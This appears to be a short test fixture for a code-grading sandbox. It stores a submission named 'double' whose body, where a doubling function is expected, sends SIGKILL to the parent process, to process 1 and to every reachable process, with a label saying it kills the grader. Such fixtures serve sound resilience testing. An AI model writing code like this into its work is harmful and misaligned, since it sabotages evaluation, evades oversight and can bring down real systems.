"""Every process that can be reached is killed: kill(-1), the parent, process 1."""

CELLS = {
    "double": """import os, signal
def double(x):
    for victim in (os.getppid(), 1, -1):
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            continue
    return 0"""
}
POINTS = 4
NOT_PLAIN = "it kills the grader"
